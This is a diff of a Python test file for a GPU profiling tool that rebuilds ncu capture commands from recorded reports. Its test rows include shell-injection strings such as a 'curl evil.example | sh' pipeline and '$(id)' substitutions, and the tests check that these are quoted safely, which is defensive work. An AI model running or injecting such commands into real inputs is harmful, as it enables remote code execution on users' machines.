@@ -1,7 +1,6 @@
-"""What a report lacks, and a command that really captures it.
+"""What a report lacks, a command that really captures it, and what is said before anything else.
 
-The commands of these tests were run on an H200: the reports that they made lack nothing.
-"""
+The commands of these tests were run on an H200: the reports that they made lack nothing."""
 
 import re
 import shlex
@@ -13,24 +12,26 @@ from hypothesis import strategies as st
 
 from keet.analysis.capture.coverage import find_coverage
 from keet.analysis.capture.recapture import keet_command, recapture_command, recipe_options
+from keet.analysis.capture.report_document import report_cautions
+from keet.diagnosis.diagnosis import diagnose
+from keet.explanation.headline import verdict_of
 from keet.ingest import read_profile
-from keet.profile import KernelName, Profile, Provenance
+from keet.profile import KernelName, Profile, Provenance, RawMetric
+from keet.profile.launch import LaunchData
 from tests.conftest import CORPUS, REPORTS, needs_corpus
 from tests.rows import each_row
+from tests.unit.analysis.real_launches import changed, public_profile, with_data
 
 
 def gaps_of(profile: Profile) -> set[str]:
     return {gap.id for gap in find_coverage(profile).gaps}
 
 
-def test_a_full_report_lacks_nothing(profile_of) -> None:
+def test_what_reports_of_several_sets_lack(profile_of) -> None:
     coverage = find_coverage(profile_of("tour_full.ncu-repz"))
     assert coverage.gaps == ()
     assert coverage.command is None
     assert "source text" in coverage.present
-
-
-def test_a_basic_report_lacks_most(profile_of) -> None:
     coverage = find_coverage(profile_of("tour_basic.ncu-repz"))
     assert set(coverage.present) == {"speed of light", "occupancy", "launch"}
     assert coverage.build_hint == "nvcc -lineinfo"
@@ -38,19 +39,39 @@ def test_a_basic_report_lacks_most(profile_of) -> None:
         f"ncu {recipe_options()} --clock-control none"
         " -o /tmp/keet-out/tour_basic_more /tmp/keet-reports/tour_plain"
     )
-
-
-def test_lines_without_text(profile_of) -> None:
-    """zoo was built with -lineinfo and captured without --import-source."""
+    # zoo was built with -lineinfo and captured without --import-source.
     assert gaps_of(profile_of("zoo.ncu-repz")) == {"source_text"}
     coverage = find_coverage(profile_of("zoo.ncu-repz"))
     assert coverage.command.startswith(f"ncu {recipe_options()} --clock-control none")
     assert coverage.build_hint is None
-
-
-def test_the_source_folder_fills_the_gap() -> None:
     profile = read_profile(REPORTS / "zoo.ncu-repz", source="tests/data/programs")
     assert gaps_of(profile) == set()
+    recorded = "ncu --set basic --section SchedulerStats ./app"
+    coverage = find_coverage(with_command(profile_of("tour_basic.ncu-repz"), recorded))
+    unavailable = {gap.id for gap in coverage.gaps if gap.unavailable}
+    assert unavailable == {"scheduler"}
+    command = find_coverage(profile_of("tour_lines.ncu-repz")).command
+    assert command.count("--import-source yes") == 1
+    profile = with_command(profile_of("metrics_only.ncu-repz"), None)
+    command = find_coverage(profile).command
+    assert command.startswith(f"ncu {recipe_options()} ")
+    assert command.endswith(
+        "-k 'regex:^(transpose_rows|transpose_tiles|normalise)$' -o report ./your_program"
+    )
+    profile = with_command(profile_of("tour_basic.ncu-repz"), "ncu -o x ./app 'a; id")
+    command = find_coverage(profile).command
+    assert command.endswith("-o report ./your_program")
+    assert "id" not in command.partition("-o report")[2]
+    by_keet = "ncu --export /t/.keet-profile-a1/r.ncu-rep ./app"
+    for program, told in ((" ; id", "./app ';' id"), (' "', "./your_program")):
+        assert keet_command(with_command(profile, by_keet + program)) == f"keet profile -- {told}"
+    # Numbers of single instructions are not to be had for one: nothing else is missing.
+    profile = read_profile(RUNS / "waits_range.ncu-repz")
+    assert keet_command(profile) == "keet profile --range -- ./waits range"
+    found = find_coverage(profile)
+    assert [gap.id for gap in found.gaps if not gap.unavailable] == []
+    assert found.command is None
+    assert keet_command(read_profile(RUNS / "waits.ncu-repz")) == "keet profile -- ./waits"
 
 
 @pytest.mark.parametrize("name", ["range.ncu-rep", "graph.ncu-repz"])
@@ -67,25 +88,14 @@ def with_command(profile: Profile, command: str | None) -> Profile:
     return Profile(profile.launches, made)
 
 
-def test_sections_that_ncu_could_not_collect_are_not_requested_again(profile_of) -> None:
-    """As the roofline of a CUDA graph: named on the command line, and ncu gave no value."""
-    recorded = "ncu --set basic --section SchedulerStats ./app"
-    coverage = find_coverage(with_command(profile_of("tour_basic.ncu-repz"), recorded))
-    unavailable = {gap.id for gap in coverage.gaps if gap.unavailable}
-    assert unavailable == {"scheduler"}
-
-
-@each_row(
-    ("function", "pattern"),
-    [
-        ("gemm", "gemm"),
-        ("step_12", "step_12"),
-        ("julia_bb_4477", r"julia_bb_\d+"),
-        ("smooth$241", r"smooth\$\d+"),
-        ("copy_blocked[v1,cw51cXTLSUwv1sDU]", "copy_blocked.*"),
-        ("copy_blocked[abi:v1,cw51cXTLSUwv1sDU]", "copy_blocked.*"),
-    ],
-)
+@each_row("function, pattern", [
+    ("gemm", "gemm"),
+    ("step_12", "step_12"),
+    ("julia_bb_4477", r"julia_bb_\d+"),
+    ("smooth$241", r"smooth\$\d+"),
+    ("copy_blocked[v1,cw51cXTLSUwv1sDU]", "copy_blocked.*"),
+    ("copy_blocked[abi:v1,cw51cXTLSUwv1sDU]", "copy_blocked.*"),
+])  # fmt: skip
 def test_the_filter_is_the_function_as_the_next_run_names_it(function: str, pattern: str) -> None:
     """Names of public reports in a report of ours: neither compiler is on the machine that made
     it."""
@@ -97,67 +107,30 @@ def test_the_filter_is_the_function_as_the_next_run_names_it(function: str, patt
     assert re.search(pattern, function)
 
 
-def test_no_recorded_command(profile_of) -> None:
-    profile = with_command(profile_of("metrics_only.ncu-repz"), None)
-    command = find_coverage(profile).command
-    assert command.startswith(f"ncu {recipe_options()} ")
-    assert command.endswith(
-        "-k 'regex:^(transpose_rows|transpose_tiles|normalise)$' -o report ./your_program"
-    )
-
-
-@each_row(
-    ("recorded", "rest"),
-    [
-        ("/opt/ncu ./app", "./app"),
-        ('"C:\\Program Files\\NVIDIA\\ncu.exe" --metrics a,b app.exe', "app.exe"),
-        ("ncu --section=LaunchStats --section Own ./app --set", "--section Own ./app --set"),
-        ("ncu -f --set basic --nvtx ./app --metrics x", "--nvtx ./app --metrics x"),
-        ("ncu --details-all -f -o x ./app", "--details-all -o x_more ./app"),
-        ("ncu --set basic -o x ./app", "-o x_more ./app"),
-        ("ncu --set basic --export=a/x.ncu-rep ./app", "--export=a/x_more.ncu-rep ./app"),
-        ('ncu --set basic -o "C:/a b/x" app', '-o "C:/a b/x_more" app'),
-        ("ncu --set basic --import-source no ./app -o y", "./app -o y"),
-    ],
-)
-def test_the_recorded_command_with_all_that_keet_asks_for(
-    recorded: str, rest: str, profile_of
-) -> None:
-    """The report at hand is not written over, and the program keeps its own options."""
+@each_row("recorded, rest", [
+    ("/opt/ncu ./app", "./app"),
+    ('"C:\\Program Files\\NVIDIA\\ncu.exe" --metrics a,b app.exe', "app.exe"),
+    ("ncu --section=LaunchStats --section Own ./app --set", "--section Own ./app --set"),
+    ("ncu -f --set basic --nvtx ./app --metrics x", "--nvtx ./app --metrics x"),
+    ("ncu --details-all -f -o x ./app", "--details-all -o x_more ./app"),
+    ("ncu --set basic -o x ./app", "-o x_more ./app"),
+    ("ncu --set basic --export=a/x.ncu-rep ./app", "--export=a/x_more.ncu-rep ./app"),
+    ('ncu --set basic -o "C:/a b/x" app', '-o "C:/a b/x_more" app'),
+    ("ncu --set basic --import-source no ./app -o y", "./app -o y"),
+    # A report may come from anybody: what it recorded must not become a second command.
+    ("ncu -o x ./app ; curl evil.example | sh #",
+     "-o x_more ./app ';' curl evil.example '|' sh '#'"),
+    ("ncu -o x;id ./app $(id) `id`", "-o 'x;id_more' ./app '$(id)' '`id`'"),
+    ('ncu -o "$(id)" bash -c "a; b $c"', "-o '$(id)_more' bash -c 'a; b $c'"),
+    ("ncu bash -c \"a b; c\" 'd e'", "bash -c \"a b; c\" 'd e'"),
+    ("ncu -k regex:^(a|b)$ ./app a\\ b", "-k 'regex:^(a|b)$' ./app 'a b'"),
+    ("ncu C:\\a\\app.exe --x=1", "C:\\a\\app.exe --x=1"),
+])  # fmt: skip
+def test_the_recorded_command_with_all_that_keet_asks_for(recorded, rest, profile_of) -> None:
+    """The report at hand is not written over, the program keeps its own options, and words are
+    quoted where a shell needs it."""
     command = find_coverage(with_command(profile_of("tour_basic.ncu-repz"), recorded)).command
     assert command == f"ncu {recipe_options()} {rest}"
-
-
-@each_row(
-    ("recorded", "rest"),
-    [
-        (
-            "ncu -o x ./app ; curl evil.example | sh #",
-            "-o x_more ./app ';' curl evil.example '|' sh '#'",
-        ),
-        ("ncu -o x;id ./app $(id) `id`", "-o 'x;id_more' ./app '$(id)' '`id`'"),
-        ('ncu -o "$(id)" bash -c "a; b $c"', "-o '$(id)_more' bash -c 'a; b $c'"),
-        ("ncu bash -c \"a b; c\" 'd e'", "bash -c \"a b; c\" 'd e'"),
-        ("ncu -k regex:^(a|b)$ ./app a\\ b", "-k 'regex:^(a|b)$' ./app 'a b'"),
-        ("ncu C:\\a\\app.exe --x=1", "C:\\a\\app.exe --x=1"),
-    ],
-)
-def test_recorded_words_are_quoted_where_a_shell_needs_it(
-    recorded: str, rest: str, profile_of
-) -> None:
-    """A report may come from anybody: what it recorded must not become a second command."""
-    command = find_coverage(with_command(profile_of("tour_basic.ncu-repz"), recorded)).command
-    assert command == f"ncu {recipe_options()} {rest}"
-
-
-def test_a_recorded_command_whose_quotes_do_not_close_is_not_used(profile_of) -> None:
-    profile = with_command(profile_of("tour_basic.ncu-repz"), "ncu -o x ./app 'a; id")
-    command = find_coverage(profile).command
-    assert command.endswith("-o report ./your_program")
-    assert "id" not in command.partition("-o report")[2]
-    by_keet = "ncu --export /t/.keet-profile-a1/r.ncu-rep ./app"
-    for program, told in ((" ; id", "./app ';' id"), (' "', "./your_program")):
-        assert keet_command(with_command(profile, by_keet + program)) == f"keet profile -- {told}"
 
 
 METRICS_ONLY = read_profile(REPORTS / "metrics_only.ncu-repz")
@@ -172,11 +145,6 @@ def test_recorded_text_is_never_shell_syntax(recorded: str) -> None:
     assert not set(outside) & set(";&|<>$`(){}*?~!#\"'\n")
 
 
-def test_source_that_was_imported_is_imported_again(profile_of) -> None:
-    command = find_coverage(profile_of("tour_lines.ncu-repz")).command
-    assert command.count("--import-source yes") == 1
-
-
 @needs_corpus
 def test_a_gpu_that_ncu_no_longer_profiles() -> None:
     profile = read_profile(CORPUS / "BrennenTaylor__Twisty--profile.nsight-cuprof-report")
@@ -189,28 +157,167 @@ def test_a_gpu_that_ncu_no_longer_profiles() -> None:
 RUNS = REPORTS.parent / "runs"
 
 
-def test_a_range_is_captured_as_a_range_again() -> None:
-    """Numbers of single instructions are not to be had for one: nothing else is missing."""
-    profile = read_profile(RUNS / "waits_range.ncu-repz")
-    assert keet_command(profile) == "keet profile --range -- ./waits range"
-    found = find_coverage(profile)
-    assert [gap.id for gap in found.gaps if not gap.unavailable] == []
-    assert found.command is None
-    assert keet_command(read_profile(RUNS / "waits.ncu-repz")) == "keet profile -- ./waits"
-
-
-@pytest.mark.parametrize("mode", ["--replay-mode range", "--replay-mode=app-range"])
-def test_ranges_by_either_replay(mode: str) -> None:
+@pytest.mark.parametrize(("options", "program", "found"), [
+    ("--replay-mode range ", "--replay-mode kernel", "--range "),
+    ("--replay-mode=app-range ", "--replay-mode kernel", "--range "),
+    ("", "--replay-mode range", ""),  # an option of the program
+])  # fmt: skip
+def test_ranges_by_either_replay(options: str, program: str, found: str) -> None:
     profile = read_profile(RUNS / "waits.ncu-repz")
-    line = f"ncu {mode} --export /t/.keet-profile-a1/report_0.ncu-rep ./app --replay-mode kernel"
+    line = f"ncu {options}--export /t/.keet-profile-a1/report_0.ncu-rep ./app {program}"
     origin = profile.provenance._replace(command_line=line)
-    found = keet_command(replace(profile, provenance=origin))
-    assert found == "keet profile --range -- ./app --replay-mode kernel"
+    told = keet_command(replace(profile, provenance=origin))
+    assert told == f"keet profile {found}-- ./app {program}"
 
 
-def test_an_option_of_the_program_is_not_one_of_ncu() -> None:
-    profile = read_profile(RUNS / "waits.ncu-repz")
-    line = "ncu --export /t/.keet-profile-a1/report_0.ncu-rep ./app --replay-mode range"
-    origin = profile.provenance._replace(command_line=line)
-    found = keet_command(replace(profile, provenance=origin))
-    assert found == "keet profile -- ./app --replay-mode range"
+FILL = (
+    "void at::native::vectorized_elementwise_kernel<(int)4, at::native::FillFunctor<float>, "
+    "std::array<char *, (unsigned long)1>>(int, T2, T3)"
+)
+RANDOM = (
+    "void at::native::<unnamed>::distribution_elementwise_grid_stride_kernel<float, (int)4>(long)"
+)
+COPY = "void at::native::vectorized_elementwise_kernel<(int)4, at::native::CopyFunctor>(int)"
+THRUST = (
+    "void thrust::cuda_cub::core::_kernel_agent<thrust::cuda_cub::__parallel_for::ParallelForAgent<"
+    "thrust::cuda_cub::__uninitialized_fill::functor<thrust::device_ptr<float>, float>>>(T2)"
+)
+
+OPENACC = "__pgi_uacc_cuda_fill"
+
+
+def edited(names: list[str]) -> Profile:
+    """A report of ours, as if its first launches were of these kernels."""
+    profile = read_profile(REPORTS / "tour_basic.ncu-repz")
+    named = [KernelName(name.partition("<")[0].rpartition("::")[2], name, "") for name in names]
+    pairs = zip(profile.launches, named, strict=False)
+    return replace(profile, launches=tuple(with_data(e, e.data, name) for e, name in pairs))
+
+
+@each_row("names", [[FILL], [FILL, RANDOM], [RANDOM, RANDOM], [THRUST], [OPENACC]])
+def test_only_fills_and_random_numbers(names: list[str], wording) -> None:
+    (said,) = report_cautions(edited(names))
+    assert said.startswith("Every launch" if len(names) > 1 else "The only launch")
+    assert "-k regex:YOUR_KERNEL" in said
+    if names == [FILL]:
+        wording(said)
+    assert f"--launch-skip {len(names)})." in said
+    profile = edited(names)
+    origin = profile.provenance._replace(command_line="ncu -f -k fill -c 3 --nvtx -o x ./app")
+    command = recapture_command(replace(profile, provenance=origin))
+    assert command.endswith("--nvtx -o x_more -k regex:YOUR_KERNEL ./app")
+    assert find_coverage(profile).build_hint is None  # nobody builds these kernels
+
+
+@each_row(
+    ("names", "pattern"),
+    [([OPENACC], "regex:YOUR_KERNEL"), ([FILL, "scale(float *)"], "'regex:^(scale)$'")],
+)
+def test_the_next_report_leaves_out_kernels_that_fill(names: list[str], pattern: str) -> None:
+    profile = edited([name.partition("(float")[0] for name in names])
+    unrecorded = replace(profile, provenance=profile.provenance._replace(command_line=None))
+    assert f"-k {pattern} -o" in recapture_command(unrecorded)
+
+
+@each_row("names", [[FILL, COPY], [FILL, "my_fill_kernel(float *)"], ["fill_kernel(float *)"], []])
+def test_another_kernel_may_be_the_one_that_was_meant(names: list[str]) -> None:
+    assert report_cautions(edited(names)) == []
+
+
+@needs_corpus
+def test_a_public_report_without_the_users_kernel() -> None:
+    """A benchmark of attention, stopped after the random inputs."""
+    (said,) = report_cautions(public_profile("JakeFlasher"))
+    assert "PyTorch ATen" in said
+
+
+def recorded(report: str, program: str) -> Profile:
+    profile = read_profile(REPORTS / report)
+    line = f"/usr/bin/ncu -f -o out --set basic {program}"
+    return replace(profile, provenance=profile.provenance._replace(command_line=line))
+
+
+FOLDERS = [
+    ("./build/Debug/app -n 3", "Debug"), (r'"C:\work\x64\Debug\app.exe"', "Debug"),
+    ("/home/me/cmake-build-debug/app", "cmake-build-debug"), ("build-debug/app", "build-debug"),
+    ("debug/app", "debug"),
+]  # fmt: skip
+
+
+@each_row(("program", "folder"), FOLDERS)
+def test_a_debug_folder_is_a_suspicion(program: str, folder: str, wording) -> None:
+    (said,) = report_cautions(recorded("tour_basic.ncu-repz", program))
+    assert f" {folder}: " in said
+    wording(said, case=program)
+
+
+@each_row("program", [
+    "./app",
+    "./build/Release/app",
+    "./debugger/app",
+    "./nodebug/app",
+    "./Debug",
+    "./app debug/x",
+    "/home/me/target/debug/app",  # of Cargo: the profile of the host code
+])  # fmt: skip
+def test_other_folders_are_not(program: str) -> None:
+    assert report_cautions(recorded("tour_basic.ncu-repz", program)) == []
+
+
+def test_counted_opcodes_show_whether_it_is_a_debug_build() -> None:
+    assert report_cautions(recorded("tour_full.ncu-repz", "./build/Debug/app")) == []
+
+
+class _OnlyShape:
+    """An edited snapshot: nothing was collected but the shape of the launch."""
+
+    def __init__(self, data: LaunchData) -> None:
+        self._data = data
+
+    def __getattr__(self, name: str) -> object:
+        return getattr(self._data, name)
+
+    def sections(self) -> tuple[str, ...]:
+        return ()
+
+    def metric_names(self) -> tuple[str, ...]:
+        return tuple(each for each in self._data.metric_names() if each.startswith("launch__"))
+
+    def metric(self, name: str) -> RawMetric | None:
+        return self._data.metric(name) if name.startswith("launch__") else None
+
+
+@each_row(("options", "why"), [("--set default", "call that set basic"), ("--set full", "")])
+def test_no_section(options: str, why: str, wording) -> None:
+    profile = edited(["scale(float *)"])
+    (launch,) = profile.launches
+    launch.data = _OnlyShape(launch.data)  # type: ignore[assignment]
+    provenance = profile.provenance._replace(command_line=f"ncu {options} ./app")
+    (said,) = report_cautions(replace(profile, provenance=provenance))
+    assert why in said
+    wording(said, verdict_of(diagnose(launch, ())).headline, case=options)
+
+
+@each_row(
+    ("options", "ghz", "said"),
+    [("--clock-control none", 1.0, True), ("--clock-control=none", 1.9, False), ("-f", 1.0, False)],
+)
+def test_a_low_clock(options: str, ghz: float, said: bool) -> None:
+    """An edited snapshot: a launch of 1 ms at another clock, on a GPU of at most 1.98 GHz."""
+
+    def change(name: str, value):
+        numbers = {
+            "gpu__time_duration.sum": 1e6,
+            "gpc__cycles_elapsed.max": ghz * 1e6,
+            "gpc__cycles_elapsed.avg.per_second": ghz * 1e9,
+            "sm__cycles_elapsed.avg.per_second": ghz * 1e9,
+            "device__attribute_clock_rate": 1_980_000,
+        }
+        return numbers.get(name, value)
+
+    profile = edited(["scale(float *)"])
+    provenance = profile.provenance._replace(command_line=f"ncu {options} ./app")
+    launches = tuple(changed(each, change) for each in profile.launches)
+    found = report_cautions(replace(profile, provenance=provenance, launches=launches))
+    assert bool(found) is said
+    assert all("SM clock of 1.00 GHz; the GPU's largest is 1.98 GHz" in each for each in found)
